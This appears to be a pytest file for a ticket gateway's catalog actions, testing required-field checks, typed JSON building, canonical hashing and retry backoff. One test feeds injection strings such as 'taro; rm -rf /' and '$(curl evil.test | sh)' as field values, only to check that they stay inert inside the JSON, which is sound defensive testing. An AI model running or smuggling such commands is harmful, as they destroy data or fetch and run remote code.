"""The pure decisions of catalog actions: is the sheet complete, what JSON the action
gets (typed, declared fields only, hostile values verbatim), and what an attempt's
outcome leads to (the retry table, the backoff on the given time)."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta

import pytest

from gateway.actions import document
from gateway.actions.outcome import Attempt, Step, Verdict, next_step
from gateway.catalog.load import parse_catalog
from gateway.catalog.model import Entry
from tests.support.actions import catalog_text


@pytest.fixture
def entry() -> Entry:
    found = parse_catalog(catalog_text("type: command\nargv: [/bin/true]")).entry("account")
    assert found is not None
    return found


def test_complete_means_every_required_field_has_a_valid_value(entry: Entry) -> None:
    assert document.missing(entry, {}) == ["user_id"]
    assert not document.is_complete(entry, {"start_date": "2026-04-01"})
    assert document.is_complete(entry, {"user_id": "taro"})
    assert not document.is_complete(entry, {"user_id": "   "})  # blank is not a value


def test_values_are_typed_and_every_declared_field_is_present(entry: Entry) -> None:
    stored = {
        "user_id": "taro.yamada",
        "start_date": "2026-04-01",
        "seats": "3",
        "plan": "pro",
        "contact": "ops@customer.test",
        "password": "hunter2",  # not a field of the entry (anymore): never sent
    }
    doc = json.loads(
        document.build(
            ticket_id=42,
            entry=entry,
            requester="alice@customer.test",
            values=stored,
            key="tg-42-account-abc",
            trigger="fields_complete",
        )
    )
    assert doc == {
        "version": 1,
        "idempotency_key": "tg-42-account-abc",
        "ticket": 42,
        "entry": "account",
        "requester": "alice@customer.test",
        "trigger": "fields_complete",
        "approved_by": None,
        "fields": {
            "user_id": "taro.yamada",
            "start_date": "2026-04-01",
            "seats": 3,
            "plan": "pro",
            "contact": "ops@customer.test",
        },
    }
    half = json.loads(
        document.build(
            ticket_id=1,
            entry=entry,
            requester="a@b.test",
            values={"user_id": "x", "seats": "1.5", "start_date": "not a date"},
            key="k",
            trigger="approved",
            approved_by="boss@example.test",
        )
    )
    assert half["fields"] == {
        "user_id": "x",
        "seats": 1.5,
        "start_date": None,  # fails its type today: not sent
        "plan": None,
        "contact": None,
    }
    assert half["approved_by"] == "boss@example.test"


@pytest.mark.parametrize(
    "hostile",
    [
        "taro; rm -rf /",
        "$(curl evil.test | sh)",
        "`id`",
        "a\"b'c\\d",
        "山田　太郎＆｛｝",
        "line1\nline2\r\n\tend",
        "%s %n {0} {user_id}",
    ],
)
def test_hostile_text_arrives_verbatim_inside_the_json(entry: Entry, hostile: str) -> None:
    text = document.build(
        ticket_id=7,
        entry=entry,
        requester="alice@customer.test",
        values={"user_id": hostile},
        key="k",
        trigger="fields_complete",
    )
    assert json.loads(text)["fields"]["user_id"] == hostile.strip()
    assert "\n" not in text  # one line; a newline in a value is escaped inside its string


def test_the_document_is_canonical_and_hashed_as_sent(entry: Entry) -> None:
    values = {"user_id": "花子", "plan": "basic"}
    build = dict(ticket_id=1, entry=entry, requester="a@b.test", key="k", trigger="x")
    one = document.build(values=values, **build)  # type: ignore[arg-type]
    two = document.build(values=dict(reversed(values.items())), **build)  # type: ignore[arg-type]
    assert one == two and "花子" in one  # UTF-8, not \\u escapes
    assert document.body(one) == one.encode("utf-8")
    assert len(document.input_hash(one)) == 64
    assert document.new_key(3, "account", "ab12") == "tg-3-account-ab12"


NOW = datetime(2026, 3, 2, 1, 0, tzinfo=UTC)
FIRST, CAP = timedelta(seconds=10), timedelta(minutes=5)


def _attempt(verdict: Verdict) -> Attempt:
    return Attempt(verdict, None, "", "", 0.1)


def test_only_temporary_failures_are_tried_again_and_only_while_tries_are_left() -> None:
    assert next_step(_attempt(Verdict.OK), 1, 3, NOW, FIRST, CAP) == (Step.SUCCEEDED, None)
    assert next_step(_attempt(Verdict.PERMANENT), 1, 3, NOW, FIRST, CAP) == (Step.FAILED, None)
    waits = [next_step(_attempt(Verdict.TEMPORARY), n, 3, NOW, FIRST, CAP) for n in (1, 2, 3)]
    assert waits == [
        (Step.RETRY, NOW + timedelta(seconds=10)),
        (Step.RETRY, NOW + timedelta(seconds=20)),
        (Step.RETRY, NOW + timedelta(seconds=40)),
    ]
    assert next_step(_attempt(Verdict.TEMPORARY), 4, 3, NOW, FIRST, CAP) == (Step.FAILED, None)
    assert next_step(_attempt(Verdict.TEMPORARY), 1, 0, NOW, FIRST, CAP) == (Step.FAILED, None)


def test_a_json_object_answer_becomes_values_for_the_reply() -> None:
    answer = Attempt(Verdict.OK, 0, "", "", 0.1, result='{"account": "taro", "n": 2, "x": [1]}')
    assert answer.values() == {"account": "taro", "n": "2"}
    assert Attempt(Verdict.OK, 0, "", "", 0.1, result="done").values() == {}
    long = Attempt(Verdict.OK, 0, "", "\n".join(f"line {i}" for i in range(50)), 0.1)
    assert long.first_lines().splitlines() == [f"line {i}" for i in range(10)]
